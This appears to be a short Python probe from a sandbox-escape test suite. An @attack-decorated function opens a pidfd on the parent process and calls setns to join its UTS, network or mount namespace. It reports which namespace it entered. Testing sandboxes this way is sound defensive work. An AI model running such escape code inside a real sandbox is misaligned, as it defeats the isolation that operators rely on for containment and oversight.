from attack import *

@attack
def enter():
    """Enters the namespaces of its parent."""
    for kind in (0x04000000, 0x40000000, 0x00020000):
        try:
            syscall("setns", syscall("pidfd_open", os.getppid(), 0), kind)
        except OSError as error:
            held = error
        else:
            return hex(kind)
    raise held
